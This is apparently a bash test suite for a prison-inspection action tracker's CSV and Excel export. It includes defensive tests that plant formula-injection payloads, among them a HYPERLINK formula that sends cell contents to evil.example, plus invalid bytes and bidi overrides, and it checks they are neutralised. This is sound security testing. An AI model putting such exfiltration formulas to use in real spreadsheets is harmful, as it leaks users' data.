#!/usr/bin/env bash
# Tests of export: the CSV for spreadsheets (byte-order mark, the columns of list) and the
# Excel workbook, read back with python3's zipfile and xml.etree (check_xlsx.py) and
# compared cell by cell with `list --format json` and `summary --format json`.
# usage: test_export.sh BINARY SOURCE_ROOT XLSX(yes|no: whether the build has libxlsxwriter)
. "$(dirname "$0")/../lib.sh"
AB=$1
SRC=$2
XLSX=$3
HERE=$(cd "$(dirname "$0")" && pwd)
DB="$T_TMP/ab.db"
export ACTIONBOARD_TODAY=2026-11-23
export UBSAN_OPTIONS=halt_on_error=1:print_stacktrace=1
ab() { "$AB" --db "$DB" "$@"; }

ab sync >/dev/null 2>&1
# Something in every column: a completion with a note, a plain note, a revised date.
ab set LIV/2022-07/1.1.3 completed --note "X-ray machines installed – £12,000 • phase 1" >/dev/null
ab note LIV/2019-08/S37.1 'Panel met; "forum" next' >/dev/null
ab due LIV/2022-07/1.5.2 2027-03-31 --reason "Contractor delayed" >/dev/null

# --- CSV ------------------------------------------------------------------------------------
ab export --format csv -o "$T_TMP/tracker.csv"
t_eq "export --format csv exits 0" "$?" "0"
t_eq "the file starts with the UTF-8 byte-order mark" "$(head -c 3 "$T_TMP/tracker.csv" | od -An -tx1 | tr -d ' ')" "efbbbf"
t_eq "then it is list --format csv, byte for byte" "$(tail -c +4 "$T_TMP/tracker.csv" | md5sum)" "$(ab list --format csv | md5sum)"
echo old >"$T_TMP/tracker.csv"
ab export -o "$T_TMP/tracker.csv"
t_eq "a FILE ending in .csv is CSV, and replaces the file" "$(head -c 3 "$T_TMP/tracker.csv" | od -An -tx1 | tr -d ' ')/$(wc -l <"$T_TMP/tracker.csv")" "efbbbf/89"
t_eq "export --cycle exports one plan" "$(ab export --cycle 2022-07 -o - | python3 -c 'import csv,sys; print(len(list(csv.reader(sys.stdin)))-1)')" "34"
ab export -o "$T_TMP/tracker.txt" 2>"$T_TMP/err"; rc=$?
t_eq "a FILE of no known kind without --format exits 64" "$rc" "64"
ab export --format pdf -o "$T_TMP/x.pdf" 2>"$T_TMP/err"; rc=$?
t_eq "an unknown format exits 64 and names the two" "$rc:$(head -n1 "$T_TMP/err")" "64:actionboard: export: unknown format 'pdf' (csv, xlsx)"
ab export --format csv 2>"$T_TMP/err"; rc=$?
t_eq "no -o exits 64" "$rc" "64"
ab export --establishment XYZ -o "$T_TMP/x.csv" 2>"$T_TMP/err"; rc=$?
t_eq "an unknown establishment exits 65, writing nothing" "$rc:$(ls "$T_TMP" | grep -c '^x\.csv')" "65:0"

# --- no formula in any CSV (OWASP "CSV injection") --------------------------------------------
# An editor's note, a revised date's reason, an owner's and an establishment's name, each
# the start of a formula: in every CSV they come out with a ' in front, and as stored with
# --raw. The settings are a copy whose owner and establishment names begin with @ and -.
F=$T_TMP/formulas
cp -r "$SRC/config/default" "$F"
sed -i 's/^  - name: "Governor"$/  - name: "@SUM(1+1)"/; s/aliases: \["Governor\.", "The Governor"\]/aliases: ["Governor", "Governor.", "The Governor"]/' "$F/actionboard.yaml"
sed -i 's/^name: HMP Liverpool$/name: -2+3 Liverpool/' "$F/establishments/LIV.yaml"
FDB=$T_TMP/formulas.db
fab() { "$AB" --db "$FDB" --config "$F/actionboard.yaml" "$@"; }
fab sync -q 2>/dev/null
K=LIV/2022-07/1.1.1
fab note "$K" '=HYPERLINK("https://evil.example/?d="&A2&B2,"Details")' >/dev/null
fab due "$K" 2027-01-31 --reason '+HYPERLINK("https://evil.example")' >/dev/null
# cells CMD...: every CSV cell the command writes, one a line (python's csv reader).
cells() { "$@" | python3 -c 'import csv, sys
for row in csv.reader(sys.stdin):
    for c in row: print(c.replace("\n", " "))'; }
bad() { grep -c '^[=+@-]' || true; }
formula_cells=$(for raw in "" --raw; do
	echo "$(cells fab export -o - $raw | bad) $(cells fab list --format csv $raw | bad) $(cells fab history "$K" --format csv $raw | bad) $(cells fab owners --format csv $raw | bad) $(cells fab summary --format csv $raw | bad)"
done | paste -sd'/')
t_eq "cells that begin with = + - @: none in export, list, history, owners, summary; with --raw, as stored" \
	"$formula_cells" "0 0 0 0 0/77 77 2 1 2"
t_has "the note is kept, behind a '" "$(cells fab history "$K" --format csv)" "'=HYPERLINK(\"https://evil.example/?d=\"&A2&B2,\"Details\")"
t_has "so are the reason" "$(cells fab history "$K" --format csv)" "'+HYPERLINK(\"https://evil.example\")"
t_has "the owner" "$(cells fab owners --format csv)" "'@SUM(1+1)"
t_has "and the establishment" "$(cells fab summary --format csv)" "'-2+3 Liverpool"

# --- the workbook ---------------------------------------------------------------------------
if [ "$XLSX" != yes ]; then
	ab export --format xlsx -o "$T_TMP/tracker.xlsx" 2>"$T_TMP/err"; rc=$?
	t_eq "without libxlsxwriter, export --format xlsx exits 69" "$rc" "69"
	t_has "and says this build has no xlsx support" "$(cat "$T_TMP/err")" "this build of actionboard has no xlsx support"
	t_skip "the workbook checks" "this build has no libxlsxwriter (meson option xlsx)"
	t_done
	exit
fi
# check NAME BOOK [--db DB]: the workbook against the list and summary of the same database.
check() {
	local name=$1 book=$2 db=${3:-$DB} sheets=$4
	"$AB" --db "$db" list --format json >"$T_TMP/actions.json"
	"$AB" --db "$db" summary --format json >"$T_TMP/summary.json"
	header=$("$AB" --db "$db" list --format csv | head -n 1)
	out=$(python3 "$HERE/check_xlsx.py" "$book" "$T_TMP/actions.json" "$T_TMP/summary.json" "$header" "$sheets" 2>&1)
	if [ "$out" = ok ]; then t_pass "$name"; else t_fail "$name" "$out"; fi
}
ab export --format xlsx -o "$T_TMP/tracker.xlsx" 2>"$T_TMP/err"
t_eq "export --format xlsx exits 0, quietly" "$?:$(cat "$T_TMP/err")" "0:"
check "the workbook of both plans: sheet names, header, frozen pane, autofilter, every cell as list --format json, overdue rows tinted, the summary" \
	"$T_TMP/tracker.xlsx" "$DB" $'Summary\nLIV 2019-08\nLIV 2022-07'
python3 -c "import zipfile,sys; z=zipfile.ZipFile(sys.argv[1]); sys.exit(z.testzip() is not None)" "$T_TMP/tracker.xlsx" \
	&& t_pass "the workbook is a sound zip" || t_fail "the workbook is a sound zip"
t_eq "no temporary file is left beside it" "$(ls "$T_TMP" | grep -c 'tracker\.xlsx\.')" "0"
ab export -o "$T_TMP/again.xlsx" && t_pass "a FILE ending in .xlsx is a workbook" || t_fail "a FILE ending in .xlsx is a workbook"
ab export --format xlsx -o - 2>/dev/null; t_eq "a workbook to standard output exits 64" "$?" "64"

# The checker must be able to fail: change one cell's text and one sheet's name.
python3 - "$T_TMP/tracker.xlsx" "$T_TMP/broken.xlsx" <<'PY'
import sys, zipfile
src, dst = zipfile.ZipFile(sys.argv[1]), zipfile.ZipFile(sys.argv[2], "w")
for i in src.infolist():
    data = src.read(i.filename)
    if i.filename == "xl/worksheets/sheet3.xml":
        data = data.replace(b"window grilles", b"window bars", 1)
    dst.writestr(i, data)
dst.close()
PY
out=$(ab list --format json >"$T_TMP/actions.json"; ab summary --format json >"$T_TMP/summary.json"
	python3 "$HERE/check_xlsx.py" "$T_TMP/broken.xlsx" "$T_TMP/actions.json" "$T_TMP/summary.json" "$(ab list --format csv | head -n1)" $'Summary\nLIV 2019-08\nLIV 2022-07')
t_has "the checker sees a changed cell" "$out" "LIV 2022-07!LIV/2022-07/1.1.1 text"

# Sheet names within Excel's rules: an establishment code with ':' and '[', and two cycles
# whose names agree in their first 31 characters.
CFG="$T_TMP/odd"
cp -r "$SRC/config/default" "$CFG"
printf 'code: "X:Y[1]"\nname: HMP Odd\n' >"$CFG/establishments/ODD.yaml"
for c in a b; do
	sed -e 's/^establishment: LIV/establishment: "X:Y[1]"/' \
		-e "s/^cycle: \"2022-07\"/cycle: \"2022-07-follow-up-review-visit-$c\"/" \
		"$CFG/plans/LIV-2022-07.yaml" >"$CFG/plans/ODD-$c.yaml"
done
"$AB" --config "$CFG/actionboard.yaml" --db "$T_TMP/odd.db" sync >/dev/null 2>&1
"$AB" --db "$T_TMP/odd.db" export -o "$T_TMP/odd.xlsx" 2>"$T_TMP/err"
t_eq "odd names export" "$?:$(cat "$T_TMP/err")" "0:"
check "sheet names are cut to 31 characters, without []:*?/\\, and unique" "$T_TMP/odd.xlsx" "$T_TMP/odd.db" \
	$'Summary\nLIV 2019-08\nLIV 2022-07\nX_Y_1_ 2022-07-follow-up-review\nX_Y_1_ 2022-07-follow-up-re (2)'
# Hostile bytes in the database (written with sqlite3, as no actionboard command takes
# them): invalid UTF-8, C0 and C1 controls, a bidi override, and a formula. The workbook
# stays well formed XML in every part, its cells hold none of them, and the formula is a
# string cell.
H=$T_TMP/hostile.db
cp "$DB" "$H"
sqlite3 "$H" "update action set text = 'bad ' || char(1) || ' ' || x'ff' || ' c1 ' || char(155) || ' rlo ' || char(8238) || ' end' where id = (select min(id) from action);
	update action set target = '=HYPERLINK(\"https://evil.example\")' where id = (select max(id) from action)"
sqlite3 "$H" "update action set text = cast(text as blob) || x'c3' where id = (select min(id) + 1 from action)"
"$AB" --db "$H" export -o "$T_TMP/hostile.xlsx" 2>"$T_TMP/err"
t_eq "a database with invalid UTF-8 and controls exports" "$?:$(cat "$T_TMP/err")" "0:"
out=$(python3 - "$T_TMP/hostile.xlsx" <<'PY'
import re, sys, zipfile
import xml.etree.ElementTree as ET
book, bad = zipfile.ZipFile(sys.argv[1]), []
for name in book.namelist():
    if not name.endswith(".xml") and not name.endswith(".rels"):
        continue
    try:
        root = ET.fromstring(book.read(name))
    except ET.ParseError as e:
        bad.append(f"{name}: not well formed: {e}")
        continue
    for el in root.iter():
        if el.tag.endswith("}f"):
            bad.append(f"{name}: a formula cell: {el.text}")
        t = el.text or ""
        hit = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", t)
        if hit:
            bad.append(f"{name}: {hit.group()!r} in {t[:40]!r}")
        if "_x00" in t:
            bad.append(f"{name}: an escaped control in {t[:40]!r}")
print("\n".join(bad) or "ok")
PY
)
t_eq "every part of the workbook is well formed XML with no control, bidi character or formula" "$out" "ok"
t_has "the bad bytes show as U+FFFD, the text around them kept" \
	"$(unzip -p "$T_TMP/hostile.xlsx" 'xl/worksheets/*.xml' xl/sharedStrings.xml 2>/dev/null)" "bad � � c1 � rlo � end"
if python3 -c 'import openpyxl' 2>/dev/null; then
	python3 -c 'import openpyxl, sys; openpyxl.load_workbook(sys.argv[1])' "$T_TMP/hostile.xlsx" 2>"$T_TMP/err"
	t_eq "openpyxl opens it" "$?:$(tail -n1 "$T_TMP/err")" "0:"
else
	T_N=$((T_N + 1)); echo "ok $T_N - openpyxl opens it # SKIP python3-openpyxl is not installed"
fi

# A write that fails (here a file size limit: ulimit -f counts KiB in bash) names the file
# and the system's reason, and leaves no file.
# The database has an action text of 80,000 hex digits (about 45 KiB compressed), so the
# workbook outgrows the limit, which leaves room for SQLite's 32 KiB -shm file.
sqlite3 "$H" "update action set text = hex(randomblob(40000)) where id = (select min(id) from action)"
(ulimit -f 36; exec "$AB" --db "$H" export -o "$T_TMP/full.xlsx") 2>"$T_TMP/err"; rc=$?
t_eq "a workbook that cannot be written exits 74, leaving no file" "$rc $(ls "$T_TMP" | grep -c 'full')" "74 0"
t_has "naming the file and the cause" "$(cat "$T_TMP/err")" "$T_TMP/full.xlsx: cannot write the workbook: File too large"

# The item's judgements on each of its actions' rows, in the report's words.
ab judge LIV/2022-07/1.8 irp insufficient_progress --date 2023-05-11 >/dev/null
ab export -o "$T_TMP/judged.xlsx"
cell() { # cell BOOK SHEET-INDEX KEY HEADING: the cell of that row and column, as text
	python3 - "$@" <<'PY'
import re, sys, zipfile, xml.etree.ElementTree as ET
book, sheet, key, heading = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
z = zipfile.ZipFile(book)
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
shared = []
if "xl/sharedStrings.xml" in z.namelist():
    shared = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
              for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
rows = []
for row in ET.fromstring(z.read("xl/worksheets/sheet%d.xml" % sheet)).findall("m:sheetData/m:row", ns):
    cells = {}
    for c in row.findall("m:c", ns):
        col = re.match(r"[A-Z]+", c.get("r")).group(0)
        v = c.find("m:v", ns)
        text = "".join(t.text or "" for t in c.iter("{%s}t" % ns["m"])) if c.get("t") == "inlineStr" \
            else shared[int(v.text)] if c.get("t") == "s" else (v.text if v is not None else "")
        cells[col] = text
    rows.append(cells)
head = {v: k for k, v in rows[0].items()}
for r in rows[1:]:
    if key in r.values():
        print(r.get(head[heading], ""))
PY
}
t_eq "the workbook carries the item's judgements on its actions' rows" \
	"$(cell "$T_TMP/judged.xlsx" 3 LIV/2022-07/1.8.2 Judgements)" "HMIP at the IRP: insufficient progress (2023-05-11)"
t_eq "... and none where nothing was judged" "$(cell "$T_TMP/judged.xlsx" 3 LIV/2022-07/1.1.1 Judgements)" ""
ab note LIV/2022-07/1.1.1 "Grilles on A wing done £ – •" >/dev/null
ab export -o "$T_TMP/noted.xlsx"
t_eq "... and the latest note, under a heading people read" "$(cell "$T_TMP/noted.xlsx" 3 LIV/2022-07/1.1.1 "Latest note")" \
	"Grilles on A wing done £ – •"

# An estate of many plans: one Summary sheet and one Actions sheet with a Plan column and an
# autofilter, not a sheet a plan (more than 20 plans).
CFG="$T_TMP/estate"
cp -r "$SRC/config/default" "$CFG"
for i in $(seq -w 1 21); do
	printf 'code: E%s\nname: HMP Test %s\n' "$i" "$i" >"$CFG/establishments/E$i.yaml"
	sed -e "s/^establishment: LIV/establishment: E$i/" "$CFG/plans/LIV-2022-07.yaml" >"$CFG/plans/E$i-2022-07.yaml"
done
"$AB" --config "$CFG/actionboard.yaml" --db "$T_TMP/estate.db" sync >/dev/null 2>&1
"$AB" --db "$T_TMP/estate.db" export -o "$T_TMP/estate.xlsx" 2>"$T_TMP/err"
t_eq "an estate of 23 plans exports" "$?:$(cat "$T_TMP/err")" "0:"
check "23 plans: one Summary sheet and one Actions sheet (Plan column, autofilter, every action)" \
	"$T_TMP/estate.xlsx" "$T_TMP/estate.db" $'Summary\nActions'
t_done
